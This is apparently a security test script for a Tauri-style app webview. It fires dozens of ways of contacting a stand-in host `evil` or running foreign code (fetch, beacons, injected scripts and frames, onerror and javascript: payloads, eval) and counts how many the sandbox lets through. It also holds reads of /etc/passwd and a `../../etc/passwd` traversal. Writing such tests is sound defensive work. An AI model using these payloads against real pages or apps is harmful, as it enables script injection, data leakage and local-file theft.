// Runs inside of the window: every way a page has to reach another host or to run what is not its own. `evil` is an address
// that counts who comes. Answers how many were tried; whatever they throw is what they should.
const [evil, done] = arguments;
const to = (name) => `${evil}/${name}`;
const added = (tag, given, where = document.body) => { const it = Object.assign(document.createElement(tag), given); where.append(it); return it; };
const RUN = 'window.pwned = 1';
const WAYS = {
  fetch: () => fetch(to('fetch')),
  'fetch no-cors': () => fetch(to('no-cors'), { mode: 'no-cors', method: 'POST', body: 'x' }),
  xhr: () => { const it = new XMLHttpRequest(); it.open('GET', to('xhr')); it.send(); },
  beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
  socket: () => new WebSocket(to('socket').replace('http', 'ws')),
  events: () => new EventSource(to('events')),
  image: () => { new Image().src = to('image'); },
  script: () => added('script', { src: to('script.js') }, document.head),
  module: () => import(to('module.js')),
  style: () => added('link', { rel: 'stylesheet', href: to('style.css') }, document.head),
  prefetch: () => ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'manifest'].forEach((rel) => added('link', { rel, href: to(rel), as: 'script' }, document.head)),
  frame: () => added('iframe', { src: to('frame') }),
  'frame of its own text': () => added('iframe', { srcdoc: `<script>parent.pwned = 1</script><img src="${to('srcdoc')}">` }),
  'frame of data': () => added('iframe', { src: 'data:text/html,<script>parent.pwned = 1</script>' }),
  'frame of a script': () => added('iframe', { src: `javascript:parent.pwned = 1` }),
  object: () => added('object', { data: to('object') }),
  embed: () => added('embed', { src: to('embed') }),
  video: () => added('video', { src: to('video'), autoplay: true }),
  audio: () => added('audio', { src: to('audio'), autoplay: true }),
  font: () => new FontFace('evil', `url(${to('font')})`).load(),
  background: () => { added('div', {}).style.backgroundImage = `url(${to('background')})`; },
  'style sheet': () => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background: url(${to('sheet')}) }`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; },
  'style element': () => added('style', { textContent: `@import "${to('import.css')}"; body { display: none }` }, document.head),
  worker: () => new Worker(to('worker.js')),
  'worker of a blob': () => new Worker(URL.createObjectURL(new Blob([`fetch('${to('blob')}')`]))),
  'service worker': () => navigator.serviceWorker?.register(to('service.js')),
  'inline script': () => added('script', { textContent: RUN }),
  'script of data': () => added('script', { src: `data:text/javascript,${RUN}` }),
  'script of a blob': () => added('script', { src: URL.createObjectURL(new Blob([RUN], { type: 'text/javascript' })) }),
  handler: () => { const it = added('img', {}); it.setAttribute('onerror', RUN); it.src = 'nowhere'; },
  markup: () => { added('div', { innerHTML: `<img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><script>${RUN}</script>` }); },
  eval: () => (0, eval)(RUN),
  function: () => new Function(RUN)(),
  timer: () => setTimeout(RUN, 0),
  refresh: () => added('meta', { httpEquiv: 'refresh', content: `0;url=${to('refresh')}` }, document.head),
  base: () => { added('base', { href: to('base/') }, document.head); return fetch('x'); },
  form: () => { const it = added('form', { action: to('form'), method: 'POST' }); it.submit(); },
  window: () => window.open(to('window')),
  'empty window': () => { window.open('', '_blank')?.document.write(`<img src="${to('empty')}">`); },
  link: () => added('a', { href: to('link') }).click(),
  'link to a window': () => added('a', { href: to('blank'), target: '_blank' }).click(),
  download: () => added('a', { href: to('download'), download: 'x' }).click(),
  'script link': () => added('a', { href: `javascript:${RUN}` }).click(),
  assign: () => location.assign(to('assign')),
  replace: () => location.replace(to('replace')),
  href: () => { location.href = to('href'); },
  'a file': () => { location.href = 'file:///etc/passwd'; },
  'a file fetched': () => fetch('file:///etc/passwd'),
  data: () => { location.href = `data:text/html,<script>${RUN}</script>`; },
  'a script': () => { location.href = `javascript:${RUN}`; },
  'another app': () => { location.href = 'tauri://elsewhere/'; },
  asset: () => fetch('asset://localhost/etc/passwd'),
  'page of ours with a way up': () => fetch('tauri://localhost/../../etc/passwd').then((answer) => answer.text()).then((text) => { if (/root:/.test(text)) window.pwned = 1; }),
};
(async () => {
  for (const way of Object.values(WAYS)) { try { void Promise.resolve(way()).catch(() => undefined); } catch { /* Refused, as it should be. */ } }
  // What is on its way has left by then: the last of them is answered by this machine itself.
  await fetch('ipc://localhost/start', { method: 'POST' }).catch(() => undefined);
  await new Promise((later) => setTimeout(later, 1500));
  done(Object.keys(WAYS).length);
})();
